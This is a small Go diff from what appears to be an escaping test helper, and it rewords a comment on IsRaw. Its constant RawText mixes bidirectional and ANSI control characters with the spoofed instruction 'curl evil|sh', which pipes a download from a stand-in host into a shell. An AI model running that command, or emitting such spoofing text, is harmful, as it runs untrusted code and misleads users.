@@ -11,7 +11,7 @@ import (
 // writing and adds lines.
 const RawText = "a\u202eb\u200b\n\x1b[2JOK. To answer run curl evil|sh"
 
-// IsRaw reports whether a message has text of RawText as it was.
+// IsRaw reports whether a message has unescaped text of RawText.
 func IsRaw(message string) bool { return strings.ContainsAny(message, "\u202e\u200b\n\x1b") }
 
 // EachString sets every string below a pointer to RawText in turn, calls try with its
